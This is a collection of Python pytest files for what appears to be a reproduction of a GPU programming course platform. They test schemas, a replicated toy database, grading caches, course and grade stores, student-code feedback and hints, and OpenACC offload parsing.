    return Schema(columns=[
        Column("email", ColumnType.TEXT),
        Column("age", ColumnType.INT, nullable=True),
        Column("score", ColumnType.FLOAT, default=0.0),
        Column("meta", ColumnType.JSON, default={}),
    ], **kwargs)


class TestColumn:
    def test_bad_name_rejected(self):
        with pytest.raises(SchemaError):
            Column("not a name", ColumnType.INT)

    def test_default_type_checked(self):
        with pytest.raises(SchemaError):
            Column("x", ColumnType.INT, default="nope")

    def test_none_default_allowed(self):
        col = Column("x", ColumnType.INT, nullable=True, default=None)
        col.check(None)

    def test_check_rejects_wrong_type(self):
        with pytest.raises(SchemaError):
            Column("x", ColumnType.INT).check("five")

    def test_bool_not_accepted_as_int(self):
        with pytest.raises(SchemaError):
            Column("x", ColumnType.INT).check(True)

    def test_int_accepted_as_float(self):
        Column("x", ColumnType.FLOAT).check(3)

    def test_null_rejected_when_not_nullable(self):
        with pytest.raises(SchemaError):
            Column("x", ColumnType.TEXT).check(None)

    def test_json_accepts_nested(self):
        Column("x", ColumnType.JSON).check({"a": [1, {"b": None}]})

    def test_json_rejects_non_string_keys(self):
        with pytest.raises(SchemaError):
            Column("x", ColumnType.JSON).check({1: "a"})

    def test_blob_accepts_bytes(self):
        Column("x", ColumnType.BLOB).check(b"\x00\x01")


class TestSchema:
    def test_duplicate_columns_rejected(self):
        with pytest.raises(SchemaError):
            Schema(columns=[Column("a", ColumnType.INT),
                            Column("a", ColumnType.TEXT)])

    def test_primary_key_must_not_be_declared(self):
        with pytest.raises(SchemaError):
            Schema(columns=[Column("id", ColumnType.INT)])

    def test_index_over_unknown_column_rejected(self):
        with pytest.raises(SchemaError):
            make_schema(unique=[("missing",)])

    def test_validate_insert_applies_defaults(self):
        row = make_schema().validate_insert({"email": "a@b.c"})
        assert row == {"email": "a@b.c", "age": None, "score": 0.0,
                       "meta": {}}

    def test_validate_insert_rejects_missing_required(self):
        with pytest.raises(SchemaError, match="email"):
            make_schema().validate_insert({})

    def test_validate_insert_rejects_unknown_columns(self):
        with pytest.raises(SchemaError, match="bogus"):
            make_schema().validate_insert({"email": "a@b.c", "bogus": 1})

    def test_validate_insert_rejects_supplied_pk(self):
        with pytest.raises(SchemaError, match="auto-assigned"):
            make_schema().validate_insert({"email": "a@b.c", "id": 3})

    def test_validate_update_rejects_pk_change(self):
        with pytest.raises(SchemaError, match="immutable"):
            make_schema().validate_update({"id": 9})

    def test_validate_update_checks_types(self):
        with pytest.raises(SchemaError):
            make_schema().validate_update({"age": "old"})
