"""Database engine, WAL replication, and connection pooling."""

import pytest

from repro.db import (
    Column,
    ColumnType,
    ConnectionPool,
    Database,
    NoSuchTableError,
    PoolExhaustedError,
    Replica,
    ReplicatedDatabase,
    Schema,
    SchemaError,
)

USERS = Schema(columns=[Column("email", ColumnType.TEXT)],
               unique=[("email",)])


@pytest.fixture
def db():
    database = Database()
    database.create_table("users", USERS)
    return database


class TestEngine:
    def test_duplicate_table_rejected(self, db):
        with pytest.raises(SchemaError):
            db.create_table("users", USERS)

    def test_missing_table_raises(self, db):
        with pytest.raises(NoSuchTableError):
            db.insert("ghosts", email="a@b.c")

    def test_lsn_advances_per_mutation(self, db):
        assert db.lsn == 0
        row = db.insert("users", email="a@b.c")
        assert db.lsn == 1
        db.update("users", row, email="b@b.c")
        assert db.lsn == 2
        db.delete("users", row)
        assert db.lsn == 3

    def test_log_since(self, db):
        a = db.insert("users", email="a@b.c")
        db.insert("users", email="b@b.c")
        records = db.log_since(1)
        assert len(records) == 1 and records[0].values["email"] == "b@b.c"
        assert db.log_since(db.lsn) == []
        assert a == 1

    def test_observers_fire_synchronously(self, db):
        seen = []
        db.subscribe(lambda rec: seen.append(rec.op))
        row = db.insert("users", email="a@b.c")
        db.delete("users", row)
        assert seen == ["insert", "delete"]


class TestReplication:
    def test_replica_catches_up(self, db):
        replica = Replica(db, "zone-b")
        db.insert("users", email="a@b.c")
        db.insert("users", email="b@b.c")
        applied = replica.sync()
        assert applied == 2
        assert len(replica.find("users", email="a@b.c")) == 1

    def test_replica_preserves_primary_row_ids(self, db):
        a = db.insert("users", email="a@b.c")
        db.delete("users", a)
        b = db.insert("users", email="b@b.c")
        replica = Replica(db, "zone-b")
        replica.sync()
        assert replica.get("users", b)["email"] == "b@b.c"

    def test_lagging_replica_serves_stale_prefix(self, db):
        replica = Replica(db, "zone-b", lag=2)
        for i in range(5):
            db.insert("users", email=f"u{i}@b.c")
        replica.sync()
        # applies up to lsn 5-2=3
        assert replica.applied_lsn == 3
        assert replica.staleness() == 2
        assert len(replica.find("users")) == 3

    def test_catch_up_ignores_lag(self, db):
        replica = Replica(db, "zone-b", lag=100)
        db.insert("users", email="a@b.c")
        replica.catch_up()
        assert replica.staleness() == 0

    def test_replica_applies_updates_and_deletes(self, db):
        row = db.insert("users", email="a@b.c")
        replica = Replica(db, "zone-b")
        replica.sync()
        db.update("users", row, email="new@b.c")
        db.delete("users", row)
        replica.sync()
        assert replica.find("users") == []

    def test_replicated_database_zone_reads(self):
        rdb = ReplicatedDatabase()
        rdb.create_table("users", USERS)
        rdb.add_replica("us-east-1a")
        rdb.add_replica("us-east-1b", lag=1)
        rdb.write("users", email="a@b.c")
        rdb.write("users", email="b@b.c")
        rdb.sync_all()
        assert len(rdb.read("us-east-1a", "users")) == 2
        assert len(rdb.read("us-east-1b", "users")) == 1  # lag 1

    def test_duplicate_zone_rejected(self):
        rdb = ReplicatedDatabase()
        rdb.add_replica("z")
        with pytest.raises(ValueError):
            rdb.add_replica("z")


class TestConnectionPool:
    def test_acquire_release_cycle(self, db):
        pool = ConnectionPool(db, capacity=2)
        with pool.acquire() as conn:
            conn.insert("users", email="a@b.c")
        assert pool.in_use == 0
        assert pool.total_acquired == 1

    def test_exhaustion(self, db):
        pool = ConnectionPool(db, capacity=1)
        conn = pool.acquire()
        with pytest.raises(PoolExhaustedError):
            pool.acquire()
        conn.release()
        pool.acquire()  # works again
        assert pool.exhaustion_events == 1

    def test_released_connection_unusable(self, db):
        pool = ConnectionPool(db, capacity=1)
        conn = pool.acquire()
        conn.release()
        with pytest.raises(Exception):
            conn.find("users")

    def test_peak_tracking(self, db):
        pool = ConnectionPool(db, capacity=3)
        conns = [pool.acquire() for _ in range(3)]
        for c in conns:
            c.release()
        assert pool.peak_in_use == 3
        assert pool.stats()["capacity"] == 3

    def test_double_release_is_idempotent(self, db):
        pool = ConnectionPool(db, capacity=1)
        conn = pool.acquire()
        conn.release()
        conn.release()
        assert pool.in_use == 0
