"""End-to-end tests for compile/grading caches wired into the platform."""

import pytest

from repro.cluster import ManualClock, PlatformCaches
from repro.cluster.result_cache import GradingResultCache
from repro.core import WebGPU, WebGPU2
from repro.core.course import CourseOffering
from repro.labs import get_lab
from repro.labs.config import LAB_CONFIG_VERSION, lab_fingerprint

VECADD = get_lab("vector-add")


def _submit(platform, user, answer="the last block may be partial"):
    platform.save_code("HPP-2015", user, "vector-add", VECADD.solution)
    platform.clock.advance(600)
    platform.answer_question("HPP-2015", user, "vector-add", 0, answer)
    platform.clock.advance(600)
    _, grade = platform.submit_for_grading("HPP-2015", user, "vector-add")
    platform.clock.advance(600)
    return grade


@pytest.mark.parametrize("platform_cls", [WebGPU, WebGPU2],
                         ids=["v1", "v2"])
def test_resubmitted_identical_attempt_compiles_once(platform_cls):
    clock = ManualClock()
    caches = PlatformCaches(clock=clock)
    platform = platform_cls(clock=clock, num_workers=1, caches=caches)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015), ["vector-add"])
    ana = platform.users.register("ana@x.com", "Ana", "pw")
    course.enroll(ana.user_id)

    first = _submit(platform, ana)
    second = _submit(platform, ana)  # identical resubmission

    assert second.total_points == first.total_points
    assert second.program_points == first.program_points
    assert second.question_points == first.question_points
    # the whole storm of identical compiles paid for ONE front-end pass
    assert caches.compile.compile_count == 1
    assert caches.compile.stats.hits >= 1
    # grading results were served from cache on the resubmission
    assert caches.results.stats.hits >= 1
    snap = caches.snapshot()
    assert snap["compile"]["hit_rate"] > 0.0
    assert snap["results"]["hits"] >= 1


def test_many_students_identical_solution_dedups_grading():
    clock = ManualClock()
    caches = PlatformCaches(clock=clock)
    platform = WebGPU2(clock=clock, num_workers=2, caches=caches)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015), ["vector-add"])
    grades = []
    for i in range(4):
        user = platform.users.register(f"s{i}@x.com", f"S{i}", "pw")
        course.enroll(user.user_id)
        grades.append(_submit(platform, user))

    assert len({g.total_points for g in grades}) == 1
    assert caches.compile.compile_count == 1
    assert caches.results.stats.hits == 3  # 1 miss + 3 hits
    assert caches.results.stats.hit_rate == pytest.approx(0.75)


def test_v2_dashboard_surfaces_cache_hit_rate():
    clock = ManualClock()
    caches = PlatformCaches(clock=clock)
    platform = WebGPU2(clock=clock, num_workers=1, caches=caches)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015), ["vector-add"])
    for i in range(2):
        user = platform.users.register(f"s{i}@x.com", f"S{i}", "pw")
        course.enroll(user.user_id)
        _submit(platform, user)

    snap = platform.dashboard.snapshot()
    per_worker = snap["cache"]["hit_rate_per_worker"]
    assert per_worker and max(per_worker.values()) > 0.0
    assert snap["cache"]["stats"]["results"]["hits"] >= 1
    rendered = platform.dashboard.render()
    assert "cache hit-rate" in rendered
    assert "caches:" in rendered


def test_v2_cache_hit_skips_container_slot():
    clock = ManualClock()
    caches = PlatformCaches(clock=clock)
    platform = WebGPU2(clock=clock, num_workers=1, caches=caches)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015), ["vector-add"])
    for i in range(2):
        user = platform.users.register(f"s{i}@x.com", f"S{i}", "pw")
        course.enroll(user.user_id)
        _submit(platform, user)

    driver = platform.drivers[0]
    assert driver.stats.cache_hits >= 1
    # a hit is answered before container acquisition, so the worker
    # processed fewer jobs than the driver completed
    assert driver.worker.jobs_processed == \
        driver.stats.jobs - driver.stats.cache_hits


def test_lab_config_change_invalidates_cache_key():
    fp = lab_fingerprint(VECADD)
    assert lab_fingerprint(VECADD) == fp  # deterministic
    assert lab_fingerprint(VECADD, base_seed=99) != fp
    assert isinstance(LAB_CONFIG_VERSION, int)


def test_source_change_changes_grading_cache_key():
    clock = ManualClock()
    caches = PlatformCaches(clock=clock)
    platform = WebGPU(clock=clock, num_workers=1, caches=caches)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015), ["vector-add"])
    ana = platform.users.register("ana@x.com", "Ana", "pw")
    course.enroll(ana.user_id)

    _submit(platform, ana)
    misses_before = caches.results.stats.misses
    # a whitespace-different source is a different program hash: no hit
    platform.save_code("HPP-2015", ana, "vector-add",
                       VECADD.solution + "\n// tweaked\n")
    clock.advance(600)
    platform.submit_for_grading("HPP-2015", ana, "vector-add")
    assert caches.results.stats.misses > misses_before


def test_grading_result_cache_eviction_releases_blobs():
    from repro.cache import LRUPolicy
    from repro.cluster.job import Job, JobKind, JobResult, JobStatus

    clock = ManualClock()
    cache = GradingResultCache(policy=LRUPolicy(max_entries=1), clock=clock)

    for i in range(3):
        job = Job(lab=VECADD, source=f"__global__ void k{i}() {{}}",
                  kind=JobKind.FULL_GRADING, user="u",
                  submitted_at=clock.now())
        assert cache.fetch(job, worker_name="w", now=clock.now()) is None
        result = JobResult(job_id=job.job_id, status=JobStatus.COMPLETED,
                           worker_name="w", compile_ok=True)
        cache.complete(job, result)

    # LRU cap of 1: the two evicted entries released their CAS blobs
    assert len(cache.memo) == 1
    assert len(cache.cas) == 1
    assert cache.stats.evictions == 2
