"""Core stores: users, courses, revisions, attempts, grades."""

import pytest

from repro.cluster.job import DatasetOutcome, JobResult, JobStatus
from repro.core import (
    AttemptStore,
    GradeBook,
    Grader,
    RevisionStore,
    Role,
    SubmissionKind,
    UserStore,
)
from repro.core.course import Course, CourseOffering
from repro.db import Database
from repro.labs import get_lab


@pytest.fixture
def db():
    return Database()


class TestUserStore:
    def test_register_and_lookup(self, db):
        store = UserStore(db)
        user = store.register("a@x.com", "Ana", "pw", now=5.0)
        assert store.get(user.user_id).email == "a@x.com"
        assert store.by_email("a@x.com").name == "Ana"
        assert store.by_email("zz@x.com") is None

    def test_duplicate_email(self, db):
        store = UserStore(db)
        store.register("a@x.com", "Ana", "pw")
        with pytest.raises(ValueError, match="already registered"):
            store.register("a@x.com", "Dup", "pw")

    def test_invalid_email(self, db):
        with pytest.raises(ValueError):
            UserStore(db).register("nope", "X", "pw")

    def test_authenticate(self, db):
        store = UserStore(db)
        store.register("a@x.com", "Ana", "secret")
        assert store.authenticate("a@x.com", "secret") is not None
        assert store.authenticate("a@x.com", "wrong") is None
        assert store.authenticate("ghost@x.com", "secret") is None

    def test_roles(self, db):
        store = UserStore(db)
        prof = store.register("p@x.com", "Prof", "pw", role=Role.INSTRUCTOR)
        student = store.register("s@x.com", "Stu", "pw")
        assert prof.is_staff and not student.is_staff


class TestCourse:
    def test_enrollment_and_stats(self, db):
        store = UserStore(db)
        course = Course(db, CourseOffering(code="HPP", year=2015),
                        [get_lab("vector-add")])
        users = [store.register(f"u{i}@x.com", f"U{i}", "pw")
                 for i in range(4)]
        for u in users:
            course.enroll(u.user_id)
        course.mark_completed(users[0].user_id, certificate=True)
        course.mark_completed(users[1].user_id)
        course.mark_dropped(users[2].user_id, now=100.0)
        stats = course.completion_stats()
        assert stats["registered"] == 4
        assert stats["completed"] == 2
        assert stats["certificates"] == 1
        assert stats["completion_rate"] == 0.5

    def test_duplicate_enrollment_rejected(self, db):
        course = Course(db, CourseOffering(code="HPP", year=2015), [])
        course.enroll(1)
        with pytest.raises(Exception):
            course.enroll(1)

    def test_deadline_lookup(self, db):
        offering = CourseOffering(code="HPP", year=2015,
                                  deadlines={"vector-add": 500.0})
        course = Course(db, offering, [get_lab("vector-add")])
        assert offering.deadline_for("vector-add") == 500.0
        assert offering.deadline_for("other") is None
        assert course.lab("vector-add").slug == "vector-add"
        with pytest.raises(KeyError):
            course.lab("sgemm")


class TestRevisionStore:
    def test_autosave_dedup(self, db):
        store = RevisionStore(db)
        r1 = store.save(1, "vector-add", "int x;", now=0.0)
        r2 = store.save(1, "vector-add", "int x;", now=5.0)
        assert r1.revision_id == r2.revision_id
        r3 = store.save(1, "vector-add", "int y;", now=10.0)
        assert r3.revision_id != r1.revision_id

    def test_history_newest_first(self, db):
        store = RevisionStore(db)
        store.save(1, "lab", "v1", now=0.0)
        store.save(1, "lab", "v2", now=1.0)
        store.save(1, "lab", "v3", now=2.0)
        history = store.history(1, "lab")
        assert [r.source for r in history] == ["v3", "v2", "v1"]
        assert store.latest(1, "lab").source == "v3"

    def test_histories_isolated_per_user_and_lab(self, db):
        store = RevisionStore(db)
        store.save(1, "a", "mine", now=0.0)
        store.save(2, "a", "theirs", now=0.0)
        store.save(1, "b", "other lab", now=0.0)
        assert len(store.history(1, "a")) == 1

    def test_diff(self, db):
        store = RevisionStore(db)
        r1 = store.save(1, "lab", "line1\nline2\n", now=0.0)
        r2 = store.save(1, "lab", "line1\nchanged\n", now=1.0)
        diff = store.diff(r1.revision_id, r2.revision_id)
        assert "-line2" in diff and "+changed" in diff


def _result(correct=True, compile_ok=True):
    return JobResult(
        job_id=1, status=JobStatus.COMPLETED, worker_name="w0",
        compile_ok=compile_ok,
        datasets=[DatasetOutcome(dataset_index=0, outcome="ok",
                                 correct=correct,
                                 report="Solution is correct.")],
        started_at=0.0, finished_at=2.0)


class TestAttemptStore:
    def test_record_and_list(self, db):
        store = AttemptStore(db)
        store.record(1, "vector-add", SubmissionKind.RUN, 1, 0, 10.0,
                     _result())
        store.record(1, "vector-add", SubmissionKind.GRADE, 2, 0, 20.0,
                     _result())
        attempts = store.for_user_lab(1, "vector-add")
        assert len(attempts) == 2
        assert attempts[0].kind is SubmissionKind.GRADE  # newest first

    def test_share_blocked_before_deadline(self, db):
        store = AttemptStore(db)
        attempt = store.record(1, "lab", SubmissionKind.RUN, 1, 0, 10.0,
                               _result())
        with pytest.raises(PermissionError):
            store.share_publicly(attempt.attempt_id, deadline=100.0, now=50.0)
        url = store.share_publicly(attempt.attempt_id, deadline=100.0,
                                   now=150.0)
        assert str(attempt.attempt_id) in url

    def test_answers_upsert(self, db):
        store = AttemptStore(db)
        store.save_answer(1, "lab", 0, "first", now=0.0)
        store.save_answer(1, "lab", 0, "revised", now=5.0)
        store.save_answer(1, "lab", 1, "other", now=6.0)
        assert store.answers(1, "lab") == {0: "revised", 1: "other"}


class TestGraderAndGradeBook:
    def test_full_marks(self):
        lab = get_lab("vector-add")
        result = JobResult(
            job_id=1, status=JobStatus.COMPLETED, compile_ok=True,
            datasets=[DatasetOutcome(i, "ok", True)
                      for i in range(len(lab.dataset_sizes))])
        breakdown = Grader().grade(lab, result, {0: "an answer"})
        assert breakdown.total == 100.0

    def test_partial_datasets(self):
        lab = get_lab("vector-add")
        result = JobResult(
            job_id=1, status=JobStatus.COMPLETED, compile_ok=True,
            datasets=[DatasetOutcome(0, "ok", True),
                      DatasetOutcome(1, "ok", False),
                      DatasetOutcome(2, "ok", True),
                      DatasetOutcome(3, "ok", False)])
        breakdown = Grader().grade(lab, result, {})
        assert breakdown.dataset_points == pytest.approx(40.0)
        assert breakdown.compile_points == 10.0
        assert breakdown.question_points == 0.0

    def test_compile_failure_scores_zero(self):
        lab = get_lab("vector-add")
        result = JobResult(job_id=1, status=JobStatus.COMPLETED,
                           compile_ok=False)
        breakdown = Grader().grade(lab, result, {})
        assert breakdown.total == 0.0

    def test_gradebook_keeps_best(self, db):
        book = GradeBook(db)
        lab = get_lab("vector-add")
        good = Grader().grade(lab, JobResult(
            job_id=1, status=JobStatus.COMPLETED, compile_ok=True,
            datasets=[DatasetOutcome(i, "ok", True) for i in range(4)]), {})
        bad = Grader().grade(lab, JobResult(
            job_id=2, status=JobStatus.COMPLETED, compile_ok=True,
            datasets=[DatasetOutcome(0, "ok", True)]), {})
        book.record(1, good, now=0.0)
        entry = book.record(1, bad, now=1.0)
        assert entry.total_points == good.total  # best kept

    def test_override_wins_and_sticks(self, db):
        book = GradeBook(db)
        lab = get_lab("vector-add")
        auto = Grader().grade(lab, JobResult(
            job_id=1, status=JobStatus.COMPLETED, compile_ok=True,
            datasets=[DatasetOutcome(i, "ok", True) for i in range(4)]), {})
        book.record(1, auto, now=0.0)
        book.override(1, lab.slug, 55.0, "plagiarism penalty", now=1.0)
        # automatic re-grade cannot replace the override
        entry = book.record(1, auto, now=2.0)
        assert entry.total_points == 55.0 and entry.overridden

    def test_exporter_called(self, db):
        exported = []
        book = GradeBook(db, exporter=exported.append)
        lab = get_lab("vector-add")
        auto = Grader().grade(lab, JobResult(
            job_id=1, status=JobStatus.COMPLETED, compile_ok=True), {})
        book.record(1, auto, now=0.0)
        assert len(exported) == 1 and book.exports == 1

    def test_user_total(self, db):
        book = GradeBook(db)
        book.override(1, "lab-a", 80.0, "", now=0.0)
        book.override(1, "lab-b", 60.0, "", now=0.0)
        assert book.user_total(1) == 140.0
