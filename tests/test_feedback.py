"""Automated feedback and on-demand hints (the paper's future work)."""

import pytest

from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job, JobKind
from repro.core import WebGPU
from repro.core.course import CourseOffering
from repro.core.feedback import FeedbackEngine, HintService
from repro.db import Database
from repro.labs import get_lab

VECADD = get_lab("vector-add")
TILED = get_lab("tiled-matmul")


@pytest.fixture(scope="module")
def worker():
    return GpuWorker(WorkerConfig(), clock=ManualClock())


def analyze(worker, lab, source, kind=JobKind.RUN_DATASET):
    result = worker.process(Job(lab=lab, source=source, kind=kind))
    return FeedbackEngine().analyze(lab, result)


def categories(feedback):
    return {f.category for f in feedback}


class TestCompileFeedback:
    def test_undeclared_identifier_names_the_symbol(self, worker):
        bad = VECADD.solution.replace("int i =", "int j =")
        feedback = analyze(worker, VECADD, bad)
        assert categories(feedback) == {"compile"}
        assert any("'i'" in f.message for f in feedback)

    def test_blacklist_explained(self, worker):
        evil = VECADD.solution.replace(
            "out[i] = in1[i] + in2[i];", 'asm("hlt");')
        feedback = analyze(worker, VECADD, evil)
        assert categories(feedback) == {"security"}
        assert "inline assembly" in feedback[0].message

    def test_kernel_called_like_function(self, worker):
        bad = VECADD.solution.replace(
            "vecAdd<<<dimGrid, dimBlock>>>(deviceInput1, deviceInput2, "
            "deviceOutput,\n                                inputLength);",
            "vecAdd(deviceInput1, deviceInput2, deviceOutput, inputLength);")
        feedback = analyze(worker, VECADD, bad)
        assert any("<<<grid, block>>>" in f.message for f in feedback)


class TestRuntimeFeedback:
    def test_missing_boundary_check_hint(self, worker):
        # removing the guard overruns the buffer on a non-multiple size
        bad = VECADD.solution.replace(
            "if (i < len) {\n    out[i] = in1[i] + in2[i];\n  }",
            "out[i] = in1[i] + in2[i];")
        result = worker.process(Job(lab=VECADD, source=bad,
                                    dataset_index=1))
        feedback = FeedbackEngine().analyze(VECADD, result)
        assert any("boundary check" in f.message for f in feedback)

    def test_barrier_divergence_hint(self, worker):
        bad = TILED.solution.replace(
            "    __syncthreads();\n    for (int k = 0;",
            "    if (tx == 0) __syncthreads();\n    for (int k = 0;")
        feedback = analyze(worker, TILED, bad)
        assert any("every thread of the block" in f.message
                   for f in feedback)

    def test_host_device_confusion_hint(self, worker):
        bad = VECADD.solution.replace(
            "cudaMemcpy(hostOutput, deviceOutput, inputLength * "
            "sizeof(float),\n             cudaMemcpyDeviceToHost);",
            "hostOutput[0] = deviceOutput[0];")
        feedback = analyze(worker, VECADD, bad)
        assert any("cudaMemcpy" in f.message for f in feedback)

    def test_timeout_hint(self, worker):
        import dataclasses
        lab = dataclasses.replace(
            VECADD, run_limit_s=0.2)
        bad = VECADD.solution.replace(
            'wbLog(TRACE, "The input length is ", inputLength);',
            "while (1) { inputLength = inputLength; }")
        feedback = analyze(worker, lab, bad)
        assert any("time limit" in f.message for f in feedback)


class TestCorrectnessFeedback:
    def test_total_mismatch_points_at_algorithm(self, worker):
        bad = VECADD.solution.replace("in1[i] + in2[i]", "in1[i] - in2[i]")
        result = worker.process(Job(lab=VECADD, source=bad,
                                    dataset_index=3))
        feedback = FeedbackEngine().analyze(VECADD, result)
        assert any("core" in f.message for f in feedback)

    def test_partial_mismatch_points_at_boundary(self, worker):
        bad = VECADD.solution.replace("if (i < len)", "if (i < len - 1)")
        result = worker.process(Job(lab=VECADD, source=bad,
                                    dataset_index=3))
        feedback = FeedbackEngine().analyze(VECADD, result)
        assert any("boundary" in f.message for f in feedback)

    def test_missing_wbsolution(self, worker):
        bad = VECADD.solution.replace(
            "wbSolution(args, hostOutput, inputLength);", "")
        feedback = analyze(worker, VECADD, bad)
        assert any("wbSolution" in f.message for f in feedback)

    def test_correct_efficient_solution_gets_no_feedback(self, worker):
        feedback = analyze(worker, VECADD, VECADD.solution)
        assert feedback == []


class TestPerformanceFeedback:
    def test_uncoalesced_access_detected(self, worker):
        # column-major indexing: consecutive threads stride by width
        bad = get_lab("basic-matmul").solution.replace(
            "int row = blockIdx.y * blockDim.y + threadIdx.y;\n"
            "  int col = blockIdx.x * blockDim.x + threadIdx.x;",
            "int row = blockIdx.y * blockDim.y + threadIdx.x;\n"
            "  int col = blockIdx.x * blockDim.x + threadIdx.y;")
        result = worker.process(Job(lab=get_lab("basic-matmul"), source=bad,
                                    dataset_index=2))
        feedback = FeedbackEngine().analyze(get_lab("basic-matmul"), result)
        assert any("uncoalesced" in f.message for f in feedback)


class TestHintService:
    def test_staged_hints(self):
        service = HintService(Database())
        first = service.next_hint(1, VECADD)
        second = service.next_hint(1, VECADD)
        assert first != second
        assert "blockIdx" in first
        assert service.hints_taken(1, "vector-add") == 2

    def test_hints_exhaust(self):
        service = HintService(Database())
        total = len(service.hints_for(VECADD))
        for _ in range(total):
            assert service.next_hint(1, VECADD) is not None
        assert service.next_hint(1, VECADD) is None

    def test_hints_per_user(self):
        service = HintService(Database())
        service.next_hint(1, VECADD)
        assert service.hints_taken(2, "vector-add") == 0

    def test_generic_hints_for_unlisted_lab(self):
        service = HintService(Database())
        hint = service.next_hint(1, get_lab("spmv"))
        assert hint is not None


class TestPlatformIntegration:
    def test_feedback_and_hints_through_platform(self):
        clock = ManualClock()
        platform = WebGPU(clock=clock)
        course = platform.create_course(
            CourseOffering(code="HPP", year=2015), ["vector-add"])
        student = platform.users.register("s@x.com", "S", "pw")
        course.enroll(student.user_id)

        # before any attempt: informational message
        feedback = platform.get_feedback("HPP-2015", student, "vector-add")
        assert feedback[0].category == "info"

        # a failing attempt gets targeted feedback
        bad = VECADD.solution.replace("in1[i] + in2[i]", "in1[i]")
        platform.save_code("HPP-2015", student, "vector-add", bad)
        clock.advance(30)
        platform.run_attempt("HPP-2015", student, "vector-add", 3)
        feedback = platform.get_feedback("HPP-2015", student, "vector-add")
        assert any(f.category == "correctness" for f in feedback)

        # on-demand hints, usage visible to the platform
        hint = platform.request_hint("HPP-2015", student, "vector-add")
        assert hint is not None
        assert platform.hints.hints_taken(student.user_id,
                                          "vector-add") == 1
