"""OpenACC support: pragma parsing, offload semantics, the extension lab."""

import numpy as np
import pytest

from repro.labs import EXTRA_LABS, execute_lab_source, get_lab
from repro.minicuda import CompileError, HostEnv, compile_source
from repro.minicuda import ast_nodes as ast
from repro.minicuda.lexer import TokenKind, tokenize
from repro.minicuda.parser import parse


def run(source, datasets=None):
    program = compile_source(source)
    env = HostEnv(datasets=datasets or {})
    result = program.run_main(host_env=env)
    return result, env


class TestPragmaParsing:
    def test_lexer_emits_pragma_tokens(self):
        toks = tokenize("#pragma acc parallel loop\nint x;")
        assert toks[0].kind is TokenKind.PRAGMA
        assert toks[0].value == "acc parallel loop"

    def test_acc_loop_node_built(self):
        unit = parse("""
void f(float *a, int n) {
  #pragma acc parallel loop
  for (int i = 0; i < n; i++) { a[i] = 1.0f; }
}
""")
        stmt = unit.function("f").body.statements[0]
        assert isinstance(stmt, ast.AccParallelLoop)
        assert "parallel loop" in stmt.directive

    def test_kernels_spelling_accepted(self):
        unit = parse("""
void f(float *a, int n) {
  #pragma acc kernels
  for (int i = 0; i < n; i++) { a[i] = 1.0f; }
}
""")
        assert isinstance(unit.function("f").body.statements[0],
                          ast.AccParallelLoop)

    def test_non_loop_pragma_is_annotation_only(self):
        unit = parse("""
void f(int *a) {
  #pragma unroll
  a[0] = 1;
}
""")
        stmt = unit.function("f").body.statements[0]
        assert isinstance(stmt, ast.ExprStmt)

    def test_acc_directive_on_non_loop_rejected(self):
        with pytest.raises(CompileError, match="for loop"):
            parse("void f(int *a) {\n#pragma acc parallel loop\na[0] = 1;\n}")

    def test_file_scope_pragma_ignored(self):
        unit = parse("#pragma once\nint g;")
        assert unit.globals


class TestSemanticRules:
    def test_non_canonical_loop_rejected(self):
        with pytest.raises(CompileError, match="canonical"):
            compile_source("""
void f(float *a, int n) {
  int i;
  #pragma acc parallel loop
  for (i = n; i > 0; i--) { a[i] = 1.0f; }
}
int main() { return 0; }
""")

    def test_stride_must_be_one(self):
        with pytest.raises(CompileError, match="stride 1"):
            compile_source("""
void f(float *a, int n) {
  #pragma acc parallel loop
  for (int i = 0; i < n; i += 2) { a[i] = 1.0f; }
}
int main() { return 0; }
""")

    def test_acc_inside_kernel_rejected(self):
        with pytest.raises(CompileError, match="host-side"):
            compile_source("""
__global__ void k(float *a, int n) {
  #pragma acc parallel loop
  for (int i = 0; i < n; i++) { a[i] = 1.0f; }
}
""")


class TestOffloadExecution:
    def test_saxpy_offload(self):
        source = """
int main() {
  int len;
  float *x = (float *)wbImport(wbArg_getInputFile(0, 0), &len);
  float *out = (float *)malloc(len * sizeof(float));
  #pragma acc parallel loop
  for (int i = 0; i < len; i++) {
    out[i] = 3.0f * x[i];
  }
  wbSolution(0, out, len);
  return 0;
}
"""
        data = np.arange(200, dtype=np.float32)
        _, env = run(source, {"input0": data})
        assert np.allclose(env.solution.data, 3 * data)
        # it actually ran as a kernel launch, not a host loop
        assert len(env.kernel_launches) == 1
        name, stats = env.kernel_launches[0]
        assert name.startswith("acc@")
        assert stats.threads >= 200

    def test_inclusive_bound(self):
        source = """
int main() {
  float *out = (float *)malloc(5 * sizeof(float));
  #pragma acc parallel loop
  for (int i = 0; i <= 4; i++) {
    out[i] = (float)i;
  }
  wbSolution(0, out, 5);
  return 0;
}
"""
        _, env = run(source)
        assert list(env.solution.data) == [0.0, 1.0, 2.0, 3.0, 4.0]

    def test_empty_range_is_noop(self):
        source = """
int main() {
  float *out = (float *)malloc(4);
  #pragma acc parallel loop
  for (int i = 0; i < 0; i++) {
    out[i] = 1.0f;
  }
  return 0;
}
"""
        result, env = run(source)
        assert result.exit_code == 0
        assert env.kernel_launches == []

    def test_scalars_readable_inside_offload(self):
        source = """
int main() {
  float scale = 2.5f;
  float *out = (float *)malloc(8 * sizeof(float));
  #pragma acc parallel loop
  for (int i = 0; i < 8; i++) {
    out[i] = scale * (float)i;
  }
  wbSolution(0, out, 8);
  return 0;
}
"""
        _, env = run(source)
        assert env.solution.data[4] == pytest.approx(10.0)

    def test_device_memory_freed_after_region(self):
        source = """
int main() {
  float *out = (float *)malloc(64 * sizeof(float));
  #pragma acc parallel loop
  for (int i = 0; i < 64; i++) {
    out[i] = 1.0f;
  }
  return 0;
}
"""
        program = compile_source(source)
        from repro.gpusim import Device, GpuRuntime
        rt = GpuRuntime(Device())
        program.run_main(runtime=rt, host_env=HostEnv())
        assert rt.device.bytes_allocated == 0


class TestOpenAccLab:
    def test_extension_lab_registered(self):
        assert any(lab.slug == "openacc-vecadd" for lab in EXTRA_LABS)
        lab = get_lab("openacc-vecadd")
        assert lab.language == "openacc"
        assert "openacc" in lab.requirements

    def test_solution_passes_all_datasets(self):
        lab = get_lab("openacc-vecadd")
        for index in range(len(lab.dataset_sizes)):
            result = execute_lab_source(lab, lab.solution,
                                        lab.dataset(index))
            assert result.passed
